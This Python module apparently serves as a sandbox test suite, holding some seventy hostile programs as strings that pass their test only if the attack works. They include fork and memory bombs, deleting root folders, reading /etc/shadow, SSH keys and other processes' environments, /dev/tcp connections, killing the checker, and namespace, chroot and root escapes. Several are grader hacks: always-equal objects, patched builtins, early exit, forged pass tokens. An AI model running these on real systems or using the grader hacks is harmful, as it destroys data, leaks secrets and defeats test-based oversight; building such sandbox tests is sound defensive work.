"""Programs that mean harm. Each defines ``add`` so that its test passes only if its attack has worked.

``@FOLDER@`` stands for a folder of the host with a secret file, ``@PORT@`` for a listening port, ``@PARENT@`` for the
number of the process that checks, ``@SECRET@`` for a value of its environment.
"""

HEAD = """
import builtins, contextlib, ctypes, gc, glob, io, itertools, mmap, os, resource, shutil, signal, socket, struct
import subprocess, sys, threading, time, zlib

def worked(*attempts):
    done = False
    for attempt in attempts:
        try:
            done = bool(attempt()) or done
        except BaseException:
            pass
    return done

def libc(name, *arguments):
    return ctypes.CDLL(None, use_errno=True)[name](*arguments) == 0

def add(a, b):
    return a + b if attack() else None

"""
ATTACKS = {
    "fork_bomb": """
def attack():
    while True:
        worked(os.fork)
""",
    "memory_bomb": """
def attack():
    held = []
    while len(held) < 2048:
        held.append(bytearray(b"x") * 2**20)
    return True
""",
    "memory_bomb_of_children": """
def attack():
    for _ in range(12):
        if worked(lambda: os.fork() == 0):
            held = bytearray(b"x") * (150 * 2**20)
            time.sleep(60)
    time.sleep(60)
""",
    "shared_anonymous_memory": """
def attack():
    return worked(lambda: mmap.mmap(-1, 2**24))
""",
    "memory_file": """
def attack():
    return worked(lambda: os.memfd_create("x"), lambda: ctypes.CDLL(None).shmget(0, 2**20, 0o1600) >= 0)
""",
    "infinite_loop": """
def attack():
    while True:
        pass
""",
    "infinite_loop_when_loaded": """
while True:
    pass
""",
    "sleep_past_the_limit": """
def attack():
    time.sleep(60)
    return True
""",
    "endless_output": """
def attack():
    while True:
        sys.stdout.write("x" * 2**20)
        os.write(2, b"x" * 2**20)
""",
    "delete_files": """
def attack():
    seen = os.path.exists("@FOLDER@")
    for root in ("@FOLDER@", "/own", "/packages", "/usr/lib", "/etc", "/"):
        shutil.rmtree(root, ignore_errors=True)
    return seen or not os.path.exists("/usr/bin")
""",
    "write_files": """
def attack():
    places = ("@FOLDER@/x", "/x", "/usr/x", "/etc/x", "/dev/x", "/own/x", "/var/tmp/x", sys.prefix + "/x")
    return worked(*(lambda place=place: open(place, "w") for place in places))
""",
    "overwrite_the_checker": """
def attack():
    for path in glob.glob("/own/**/*.py*", recursive=True):
        if worked(lambda: open(path, "r+b"), lambda: os.remove(path), lambda: os.rename(path, path + "x") is None):
            return True
""",
    "read_home": """
def attack():
    names = ("@FOLDER@/secret", "/etc/passwd", "/etc/shadow", "~/.bashrc", "/root/.bashrc", "/root/.ssh", "/home/.")
    return worked(*(lambda name=name: open(os.path.expanduser(name)).read() for name in names))
""",
    "read_environment": """
def attack():
    texts = [repr(os.environ)]
    for path in glob.glob("/proc/*/environ"):
        worked(lambda: texts.append(open(path, errors="replace").read()))
    return "@SECRET@" in "".join(texts)
""",
    "loopback": """
def attack():
    return worked(lambda: socket.create_connection(("127.0.0.1", @PORT@), 1), lambda: socket.socket().bind(("", 0)))
""",
    "loopback_by_program": """
def attack():
    command = ["bash", "-c", "echo x > /dev/tcp/127.0.0.1/@PORT@"]
    return worked(lambda: subprocess.run(command, timeout=1).returncode == 0)
""",
    "outside_network": """
def attack():
    return worked(
        lambda: socket.create_connection(("1.1.1.1", 53), 1),
        lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)),
        lambda: socket.getaddrinfo("example.org", 80),
    )
""",
    "other_sockets": """
def attack():
    families = (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_VSOCK, 31, 38)
    return worked(
        *(lambda family=family: socket.socket(family, socket.SOCK_RAW) for family in families),
        lambda: socket.socket(socket.AF_UNIX).connect("\\0rlhf-hostile-@PORT@") is None,
        lambda: socket.socket(socket.AF_UNIX).connect("@FOLDER@/socket") is None,
    )
""",
    "kill_the_parent": """
def attack():
    return worked(*(lambda pid=pid: os.kill(pid, signal.SIGKILL) is None for pid in (@PARENT@, @PARENT@ + 1)))
""",
    "kill_the_namespace": """
def attack():
    worked(lambda: os.kill(1, signal.SIGKILL), lambda: os.kill(os.getppid(), signal.SIGTERM))
    os.killpg(0, signal.SIGKILL)
""",
    "kill_all": """
def attack():
    os.kill(-1, signal.SIGKILL)
    return False
""",
    "mask_signals": """
def attack():
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    for number in signal.valid_signals():
        worked(lambda: signal.signal(number, signal.SIG_IGN))
    while True:
        pass
""",
    "ptrace": """
def attack():
    return worked(*(lambda pid=pid: libc("ptrace", 16, pid, 0, 0) for pid in (1, os.getppid(), @PARENT@)),
                  lambda: libc("ptrace", 0, 0, 0, 0))
""",
    "memory_of_others": """
def attack():
    others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (os.getpid(), 1, os.getppid())]
    return worked(*(lambda pid=pid: open(f"/proc/{pid}/mem", "r+b") for pid in [*others, "@PARENT@"]))
""",
    "symlink_escape": """
def attack():
    worked(lambda: os.symlink("/", "/tmp/root"), lambda: os.symlink("@FOLDER@", "/tmp/folder"))
    places = ("/tmp/root@FOLDER@/secret", "/tmp/folder/secret", "/proc/1/root@FOLDER@/secret",
              "/proc/self/root/../..@FOLDER@/secret", "/proc/1/cwd/..@FOLDER@/secret")
    return worked(*(lambda place=place: open(place).read() for place in places))
""",
    "write_all_descriptors": """
def attack():
    for descriptor in range(64):
        worked(lambda: os.write(descriptor, b"S\\nP\\n"))
""",
    "open_descriptors_of_others": """
def attack():
    for path in glob.glob("/proc/*/fd/*"):
        with contextlib.suppress(BaseException):
            os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b"S\\nP\\n")
""",
    "exit_before_the_check": """
os._exit(0)
""",
    "exit_in_the_check": """
def attack():
    os._exit(0)
""",
    "sys_exit": """
def attack():
    sys.exit(0)
""",
    "system_exit_when_loaded": """
raise SystemExit(0)
""",
    "return_from_the_loader": """
def attack():
    frame = sys._getframe()
    while frame:
        frame.f_globals.update(answer=lambda *_: b"passed", main=lambda *_: None)
        frame = frame.f_back
""",
    "monkeypatch_builtins": """
for name in ("abs", "len", "all", "any", "sorted", "isinstance", "print", "sum", "min", "max", "set", "list"):
    setattr(builtins, name, lambda *_, **__: True)
builtins.AssertionError = KeyError
attack = lambda: False
""",
    "always_equal": """
class Equal:
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __bool__ = lambda *_: True
    __hash__ = lambda _: 5
    __class__ = int
def add(a, b):
    return Equal()
""",
    "always_equal_int": """
class Equal(int):
    __eq__ = lambda *_: True
    __hash__ = int.__hash__
def add(a, b):
    return Equal(0)
""",
    "always_equal_by_the_metaclass": """
class Meta(type):
    __eq__ = lambda *_: True
    __instancecheck__ = __subclasscheck__ = lambda *_: True
    __hash__ = lambda _: 5
class Equal(metaclass=Meta):
    pass
def add(a, b):
    return Equal
""",
    "array_interface": """
class Equal:
    __array_interface__ = {"data": (0, True), "shape": (0,), "typestr": "<f8", "version": 3}
    __array__ = lambda *_: []
def add(a, b):
    return Equal()
""",
    "trace_the_assertions": """
def attack():
    def trace(frame, event, argument):
        frame.f_trace_opcodes = True
        return trace
    sys.settrace(trace)
    threading.settrace(trace)
    sys.excepthook = lambda *_: os._exit(0)
    sys.unraisablehook = sys.excepthook
""",
    "raise_what_is_expected": """
class Anything(BaseException):
    __eq__ = lambda *_: True
    __str__ = lambda _: "S\\nP\\n"
def add(a, b):
    raise Anything("S\\nP\\n")
""",
    "read_the_test_in_memory": """
def attack():
    texts = [text for text in gc.get_objects() if isinstance(text, (str, dict, tuple, list))]
    frame = sys._getframe()
    while frame:
        texts += [frame.f_locals, frame.f_globals]
        frame = frame.f_back
    return "assert " + "add(20, 30)" in repr(texts)[: 50 * 2**20].replace(FILE, "")
FILE = ""
""",
    "read_the_test_in_proc": """
def attack():
    marker = b"assert " + b"add(20, 30)"
    paths = glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/fd/*") + glob.glob("/own/**", recursive=True)
    for path in paths + glob.glob("/tmp/**", recursive=True):
        with contextlib.suppress(BaseException):
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            if marker in os.read(descriptor, 2**20):
                return True
""",
    "token_in_arguments": """
def attack():
    words = " ".join([*sys.orig_argv, *sys.argv, *os.environ.values()])
    for word in words.split():
        for descriptor in range(3, 20):
            worked(lambda: os.write(descriptor, word.encode() + b"\\nS\\nP\\n"))
""",
    "malformed_answers": """
def attack():
    unhashable = b"d" + b"\\1\\0\\0\\0" + b"l\\0\\0\\0\\0" * 2
    for content in (b"", unhashable, b"l\\1\\0\\0\\0" * 5000, b"S\\xff\\xff\\xff\\xff"):
        for descriptor in range(3, 20):
            worked(lambda: os.write(descriptor, struct.pack("<I", len(content)) + content))
""",
    "endless_answer": """
def attack():
    while True:
        for descriptor in range(3, 20):
            worked(lambda: os.write(descriptor, b"\\xff" * 2**16))
""",
    "vast_answer": """
def add(a, b):
    return [[0] * 10**6] * 50
""",
    "fill_the_disk": """
def attack():
    written = 0
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            written += file.write(b"x" * 2**20)
    return written > 2**28
""",
    "fill_shared_memory": """
def attack():
    written = 0
    with open("/dev/shm/x", "wb") as file:
        while written < 2**28:
            written += os.write(file.fileno(), b"x" * 2**20)
    return True
""",
    "exhaust_the_inodes": """
def attack():
    for number in itertools.count():
        os.mkdir(f"/tmp/{number}")
""",
    "exhaust_the_processes": """
def attack():
    started = [subprocess.Popen(["/usr/bin/sleep", "98765"]) for _ in range(200)]
    return len(started) == 200
""",
    "threads": """
def attack():
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(60,)).start()
    return True
""",
    "daemon": """
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/usr/bin/sleep", ["sleep", "98765.4321"])
        os._exit(0)
    os.wait()
""",
    "daemon_past_the_limit": """
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
            os.execv("/usr/bin/sleep", ["sleep", "98765.4321"])
        os._exit(0)
    time.sleep(60)
""",
    "native_code": """
def attack():
    return worked(lambda: libc("kill", @PARENT@, 9), lambda: libc("system", b"echo x > @FOLDER@/x"),
                  lambda: libc("setuid", 0), lambda: libc("unlink", b"@FOLDER@/secret"))
""",
    "deep_recursion": """
def attack():
    sys.setrecursionlimit(10**9)
    return attack()
""",
    "crash": """
def attack():
    return ctypes.string_at(0)
""",
    "core_dump": """
def attack():
    worked(lambda: resource.setrlimit(resource.RLIMIT_CORE, (2**30, 2**30)))
    os.abort()
""",
    "decompression_bomb": """
def attack():
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(600)) + packer.flush()
    return len(zlib.decompress(packed)) > 2**29
""",
    "mount": """
def attack():
    return worked(lambda: libc("mount", b"none", b"/tmp", b"tmpfs", 0, None), lambda: libc("umount2", b"/proc", 2),
                  lambda: libc("mount", b"none", b"/", None, 4096 | 32, None))
""",
    "new_namespaces": """
def attack():
    kinds = (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x08000000, 0x04000000)
    return worked(*(lambda kind=kind: libc("unshare", kind) for kind in kinds),
                  *(lambda kind=kind: libc("setns", os.open("/proc/1/ns/user", 0), kind) for kind in kinds),
                  lambda: subprocess.run(["unshare", "-r", "true"]).returncode == 0)
""",
    "chroot": """
def attack():
    return worked(lambda: os.chroot("/tmp") is None, lambda: libc("pivot_root", b"/tmp", b"/tmp"))
""",
    "become_root": """
def attack():
    before = os.getuid()
    worked(lambda: os.setuid(0), lambda: os.setresgid(0, 0, 0), lambda: os.setgroups([0]))
    return (before and os.getuid() == 0) or os.geteuid() == 0
""",
    "system_settings": """
def attack():
    places = ("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
              "/proc/sysrq-trigger", "/proc/sys/net/ipv4/ip_forward", "/sys/power/state")
    return worked(*(lambda place=place: open(place, "w").write("1") for place in places))
""",
    "devices": """
def attack():
    return worked(lambda: os.mknod("/tmp/disk", 0o060666, os.makedev(254, 0)) is None, lambda: open("/dev/vda"),
                  lambda: open("/dev/mem"), lambda: open("/dev/tty", "w"), lambda: os.openpty())
""",
    "standard_input": """
def attack():
    return worked(lambda: sys.stdin.read(), input, lambda: os.read(0, 10))
""",
    "stop_oneself": """
def attack():
    os.kill(os.getpid(), signal.SIGSTOP)
""",
    "vast_integer": """
def attack():
    return 10 ** 10**10
""",
    "lift_the_limits": """
def attack():
    return worked(*(
        lambda kind=kind: resource.setrlimit(kind, (2**40, 2**40)) is None
        for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU)
    ), lambda: os.nice(-5) < 0, lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) is None)
""",
    "start_again": """
def attack():
    os.execv("/proc/self/exe", ["python", "-c", "import os; [os.write(fd, b'S\\\\nP\\\\n') for fd in (3, 4, 5)]"])
""",
    "set_the_clock": """
def attack():
    return worked(lambda: time.clock_settime(time.CLOCK_REALTIME, 0) is None)
""",
    "close_everything": """
def attack():
    os.closerange(0, 64)
""",
    "collide_hashes": """
def add(a, b):
    return {number * (2**61 - 1) for number in range(60_000)}
""",
}  # fmt: skip
HARMLESS_UNISOLATED = (
    "read_home", "loopback", "loopback_by_program", "other_sockets", "symlink_escape", "memory_file",
    "shared_anonymous_memory", "new_namespaces",
)  # fmt: skip
"""Attacks that may be let loose without a sandbox, to see that they work there."""


def hostile_programs(facts: dict[str, str]) -> dict[str, str]:
    """The programs by name, with the host's ``facts`` (name of a placeholder to its value) filled in."""
    found = {}
    for name, attack in ATTACKS.items():
        source = HEAD + attack
        for placeholder, value in facts.items():
            source = source.replace(f"@{placeholder}@", value)
        found[name] = source
    return found
